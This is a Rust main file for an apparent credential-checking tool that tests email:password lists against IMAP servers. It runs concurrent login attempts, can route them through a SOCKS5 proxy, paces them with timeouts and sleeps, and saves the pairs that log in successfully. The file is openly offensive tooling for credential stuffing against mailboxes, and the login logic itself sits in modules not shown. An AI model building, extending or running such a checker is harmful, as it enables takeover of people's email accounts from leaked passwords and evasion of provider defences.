use std::path::PathBuf;
use std::sync::Arc;
use std::time::Duration;

use anyhow::Context;
use clap::Parser;
use parking_lot::Mutex;
use tracing_subscriber::{fmt, EnvFilter};

use imap_validator::proxy::ProxyEndpoint;
use imap_validator::registry::DomainRegistry;
use imap_validator::report::Reporter;
use imap_validator::runner::{self, RunConfig};

/// Command line options
#[derive(Parser, Debug)]
#[command(
    author,
    version,
    about = "Verify email:password lists against their IMAP servers"
)]
struct Cli {
    /// Input list, one email:password per line
    input: PathBuf,

    /// Per-domain connection parameters (TOML)
    #[arg(short = 'c', long = "config", default_value = "domains.toml")]
    config: PathBuf,

    /// Append successful pairs to this file
    #[arg(short = 'o', long = "output")]
    output: Option<PathBuf>,

    /// SOCKS5 proxy as host:port
    #[arg(short = 'p', long = "proxy")]
    proxy: Option<String>,

    /// Seconds allowed per login attempt
    #[arg(short = 't', long = "timeout", default_value_t = 3.0)]
    timeout: f64,

    /// Seconds to pause after each attempt
    #[arg(short = 's', long = "sleep", default_value_t = 0.0)]
    sleep: f64,

    /// Concurrent attempts
    #[arg(short = 'w', long = "workers", default_value_t = 1)]
    workers: usize,

    /// Print successful logins only
    #[arg(short = 'S', long = "only-successes")]
    only_successes: bool,
}

#[tokio::main]
async fn main() -> anyhow::Result<()> {
    let filter = EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new("info"));
    fmt().with_env_filter(filter).init();

    let cli = Cli::parse();
    anyhow::ensure!(
        cli.timeout >= 0.0 && cli.sleep >= 0.0,
        "timeout and sleep must be non-negative"
    );

    // Everything the run depends on is acquired up front; any failure here
    // exits nonzero before the first record is read.
    let proxy = cli
        .proxy
        .as_deref()
        .map(ProxyEndpoint::parse)
        .transpose()
        .context("invalid proxy specification")?;
    let registry = Arc::new(DomainRegistry::load(&cli.config)?);
    tracing::info!(domains = registry.len(), "loaded domain table");
    if let Some(p) = &proxy {
        tracing::info!(host = %p.host, port = p.port, "routing attempts through SOCKS5 proxy");
    }
    let reporter = Arc::new(Mutex::new(
        Reporter::new(cli.only_successes, cli.output.as_deref())
            .context("cannot open output file")?,
    ));

    let cfg = RunConfig {
        workers: cli.workers.max(1),
        timeout: Duration::from_secs_f64(cli.timeout),
        pacing: Duration::from_secs_f64(cli.sleep),
        proxy,
    };
    let stats = runner::run(&cli.input, registry, cfg, reporter.clone()).await?;

    let mut rep = reporter.lock();
    rep.flush();
    rep.summary(
        stats.succeeded.load(std::sync::atomic::Ordering::Relaxed),
        stats.total.load(std::sync::atomic::Ordering::Relaxed),
    );
    Ok(())
}
